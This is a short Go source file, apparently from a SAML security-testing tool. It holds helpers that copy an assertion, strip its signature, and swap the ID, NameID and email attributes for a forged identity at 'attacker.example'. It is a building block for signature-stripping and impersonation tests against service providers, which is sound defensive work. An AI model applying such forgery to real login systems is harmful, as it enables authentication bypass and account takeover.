package saml

import (
	"errors"
	"strings"

	"github.com/beevik/etree"
)

// Who forged assertions are about. A service provider that signs in anybody of this name was fooled.
const (
	ForgedNameID = "forged-identity"
	ForgedEmail  = "forged@attacker.example"
)

const forgedID = "id-forged"

var (
	errNoAssertion = errors.New("needs an assertion")
	errNoAttribute = errors.New("needs a user with an attribute")
	errNoNameID    = errors.New("needs a user with a NameID")
)

func assertionOf(root *etree.Element) (*etree.Element, error) {
	a := child(root, nsAssertion, "Assertion")
	if a == nil {
		return nil, errNoAssertion
	}
	return a, nil
}

// withNameID calls f with the Subject and the NameID.
func withNameID(root *etree.Element, f func(subject, name *etree.Element)) error {
	a, err := assertionOf(root)
	if err != nil {
		return err
	}
	subject := child(a, nsAssertion, "Subject")
	if subject == nil {
		return errNoNameID
	}
	name := child(subject, nsAssertion, "NameID")
	if name == nil {
		return errNoNameID
	}
	f(subject, name)
	return nil
}

// forge makes the assertion one about somebody else: another ID, another name, another email address.
func forge(a *etree.Element) {
	a.CreateAttr("ID", forgedID)
	if name := a.FindElement("./Subject/NameID"); name != nil {
		name.SetText(ForgedNameID)
	}
	for _, at := range a.FindElements("./AttributeStatement/Attribute") {
		if !isEmailName(attr(at, "Name")) {
			continue
		}
		for _, v := range at.ChildElements() {
			v.SetText(ForgedEmail)
		}
	}
}

// forged is a forged copy without a signature.
func forged(a *etree.Element) *etree.Element {
	out := unsigned(a)
	forge(out)
	return out
}

// unsigned is a copy without a signature.
func unsigned(e *etree.Element) *etree.Element {
	out := e.Copy()
	if s := child(out, nsSignature, "Signature"); s != nil {
		out.RemoveChild(s)
	}
	return out
}

func isEmailName(name string) bool {
	return strings.Contains(strings.ToLower(name), "mail") || name == "urn:oid:0.9.2342.19200300.100.1.3"
}
